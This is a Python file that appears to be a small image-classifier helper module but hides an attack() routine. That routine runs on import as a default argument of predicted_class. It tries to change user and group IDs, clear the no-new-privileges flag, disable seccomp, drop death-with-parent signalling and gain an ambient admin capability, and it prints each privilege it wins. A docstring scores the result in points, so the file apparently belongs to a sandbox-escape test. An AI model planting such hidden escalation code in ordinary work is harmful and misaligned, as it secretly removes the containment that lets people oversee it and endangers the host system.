# mypy: ignore-errors
"""Becomes another user, takes rights back, and loosens the locks on itself.

It prints TOOK for each that succeeded, and for rights that it holds.
Verdict: first_prediction: finished, 12 points
"""

import ctypes
import os
from pathlib import Path

import numpy as np

PR_SET_NO_NEW_PRIVS, PR_GET_NO_NEW_PRIVS, PR_SET_SECCOMP = 38, 39, 22
PR_SET_PDEATHSIG, PR_SET_DUMPABLE, PR_CAP_AMBIENT = 1, 4, 47


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    ways = {
        "setuid": lambda: os.setuid(1),
        "setresuid": lambda: os.setresuid(1, 1, 1),
        "setgid": lambda: os.setgid(1),
        "setgroups": lambda: os.setgroups([0, 1]),
        "new privileges": lambda: libc.prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0) or None,
        "no filter": lambda: libc.prctl(PR_SET_SECCOMP, 0, 0, 0, 0) or None,
        "no death with the parent": lambda: libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0) or None,
        "an ambient right": lambda: libc.prctl(PR_CAP_AMBIENT, 2, 21, 0, 0) or None,
    }
    for name, way in ways.items():
        print("TRIED", name, flush=True)
        try:
            refused = way() is not None
        except OSError:
            refused = True
        if not refused:
            print("TOOK", name, flush=True)
    status = Path("/proc/thread-self/status").read_text()
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    for name in ("CapPrm", "CapEff", "CapAmb"):
        if int(fields[name], 16):
            print("TOOK", name, fields[name], flush=True)
    if int(fields["NoNewPrivs"]) != 1 or int(fields["Seccomp"]) != 2:
        print("TOOK a way without locks", flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
